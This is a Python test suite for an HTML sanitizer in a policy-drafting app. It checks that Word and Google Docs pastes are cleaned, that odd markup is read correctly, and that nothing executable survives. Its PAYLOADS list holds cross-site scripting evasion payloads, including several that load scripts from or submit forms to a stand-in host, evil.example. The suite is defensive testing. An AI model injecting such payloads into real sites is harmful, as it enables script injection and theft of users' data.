"""What may stand in a policy's text: nothing that runs, nothing that is not ours, nothing lost."""

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from policy_drafts.text import blocks, markup, reading

# From the OWASP XSS Filter Evasion Cheat Sheet and PortSwigger's cheat sheet (payload shapes), in
# our own selection.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    '<img src="/policies/pictures/../../admin/" alt="x">',
    "<img src=https://evil.example/pixel.gif alt=x>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='https://x' onclick=alert(1) style='position:fixed'>x</a>",
    "<p onmouseover=alert(1) style='background:url(javascript:alert(1))'>x</p>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    "<form action=//evil.example><input name=csrf><button>Save</button></form>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    (
        "<link rel=stylesheet "
        "href=//evil.example/x.css><style>*{background:url(//evil.example)}</style>"
    ),
    "<body onload=alert(1)><div onclick=alert(1)>x</div></body>",
    "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    (
        "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x "
        "onerror=alert(1)>'>"
    ),
    (
        "<table background='javascript:alert(1)'><tr><td "
        "background='javascript:alert(1)'>x</td></tr></table>"
    ),
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p data-block='\"><script>alert(1)</script>'>x</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<isindex type=image src=1 onerror=alert(1)><marquee onstart=alert(1)>x</marquee>",
]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("shape", ["{}", "<p>before {} after</p>", "<ul><li>{}</li></ul>"])
def test_nothing_that_runs_survives_in_any_output(payload, shape):
    stored = markup.cleaned(shape.format(payload))

    for html in (
        stored,
        str(markup.safe(stored)),
        str(reading.for_reading(stored)),
        markup.without_marks(stored),
    ):
        root = markup.tree(html)
        tags = {element.tag for element in root.iter() if isinstance(element.tag, str)} - {
            "article"
        }
        assert tags <= markup.TAGS | {"div"}
        for element in root.iter():
            assert not [
                name
                for name in element.attrib
                if name.startswith("on") or name in {"style", "srcdoc"}
            ]
            assert element.get("href", "https:").split(":")[0] in {"http", "https", "mailto", "tel"}
            assert markup.PICTURE.fullmatch(
                element.get("src", "/policies/pictures/" + "0" * 36 + "/")
            )


def test_text_pasted_from_word_comes_out_clean():
    word = (
        '<h1 style="mso-style"><span lang="EN-GB">Why<o:p></o:p></span></h1><p '
        'class="MsoNormal"><b><span '
        'style="font-size:11pt">We</span></b> look after <i>each</i> '
        "other.<o:p>&nbsp;</o:p></p><p>&nbsp;</p>"
        "<!--[if gte mso 9]><xml></xml><![endif]-->"
    )

    assert markup.cleaned(word) == (
        "<h3>Why</h3><p><strong>We</strong> look after <em>each</em> other.&nbsp;</p>"
    )


def test_text_pasted_from_google_docs_comes_out_clean():
    docs = (
        '<b style="font-weight:normal" id="docs-internal-guid-1"><p '
        'dir="ltr"><span>One</span></p><ul><li dir="ltr"><p '
        'dir="ltr"><span>Two</span></p></li></ul></b>'
    )

    cleaned = markup.cleaned(docs)

    assert [leaf.text_content() for leaf in markup.tree(cleaned).iter("p")] == ["One", "Two"]
    assert "<li><p>Two</p></li>" in cleaned


def test_loose_text_gets_paragraphs():
    assert markup.cleaned("one <strong>two</strong><ul><li>three</li></ul>four") == (
        "<p>one <strong>two</strong></p><ul><li><p>three</p></li></ul><p>four</p>"
    )


PICTURE = (
    f'<img src="/policies/pictures/{"1" * 8}-{"1" * 4}-{"1" * 4}-{"1" * 4}-{"1" * 12}/" alt="A '
    'door">'
)
ODD = [
    ("<div>a<div>b</div><blockquote>c<br>d</blockquote></div>", ["a", "b", "c\nd"]),
    ("<details>loose<summary>short</summary> text</details>", ["loose", "short", "text"]),
    ("<ul>loose<li>item</li>tail</ul>", ["loose", "item", "tail"]),
    ("<dl>loose<dt><p>a</p><p>b</p></dt><dd>c</dd></dl>", ["loose", "a\nb", "c"]),
    (
        f"<figure>text{PICTURE}<figcaption><p>a</p><p>b</p></figcaption></figure>",
        ["text", "Picture: A door", "a\nb"],
    ),
    ("<summary><h3>head</h3>rest</summary>", ["head\nrest"]),
    ("<blockquote>" * 300 + "deep" + "</blockquote>" * 300 + "<p>after</p>", ["deep", "after"]),
    ("<div>" * 5000 + "deep<p>one<p>two" + "</div>" * 5000, ["deep", "one", "two"]),
]


@pytest.mark.parametrize(("html", "texts"), ODD)
def test_each_word_is_in_one_block_however_odd_the_markup(html, texts):
    assert [block.text for block in blocks.read(markup.cleaned(html))] == texts


@pytest.mark.parametrize(("html", "_"), ODD)
def test_cleaning_twice_changes_nothing(html, _):
    once = markup.cleaned(html)

    assert markup.cleaned(once) == once


PIECES = [f"<{end}{tag}>" for tag in ("em", "strong", "b", "p") for end in ("", "/")]
PIECES += ["x", " ", "<br>"]


@example(["<em>", " ", "<strong>", "x"])
@example(["<em>", "<em>", "<strong>", "x"])
@given(st.lists(st.sampled_from(PIECES), max_size=12))
@settings(max_examples=60, deadline=None)
def test_cleaning_marks_twice_changes_nothing(pieces):
    once = markup.cleaned("".join(pieces))

    assert markup.cleaned(once) == once


def test_block_of_a_picture_in_a_paragraph_holds_no_uid():
    stored = blocks.with_uids(f"<p>See {PICTURE}</p>")

    assert "data-block" not in "".join(block.html for block in blocks.read(stored))


def test_table_that_scrolls_is_named_by_its_first_row():
    page = reading.for_reading(
        "<table><tr><th>Who</th><th>What</th></tr><tr><td>a</td><td>b</td></tr></table>"
    )

    assert 'aria-label="Table: Who, What"' in page


def test_uids_that_come_along_from_outside_are_dropped():
    assert "data-block" not in markup.cleaned(
        '<p data-block="00000000-0000-0000-0000-000000000000">x</p>'
    )


def test_each_block_has_an_address_for_reading():
    html = '<p data-block="00000000-0000-0000-0000-000000000001">x</p>'

    assert reading.for_reading(html) == '<p id="b-00000000-0000-0000-0000-000000000001">x</p>'


STARTS = [
    ("150", '<ol start="150"><li><p>x</p></li></ol>'),
    ("999", '<ol start="999"><li><p>x</p></li></ol>'),
    ("1986", "<p>1986. x</p>"),
    ("9" * 5000, "<ol><li><p>x</p></li></ol>"),
]


@pytest.mark.parametrize(("start", "html"), STARTS)
def test_list_keeps_the_number_at_which_it_begins(start, html):
    assert markup.cleaned(f"<ol start='{start}'><li>x</ol>") == html
    assert markup.cleaned(html) == html
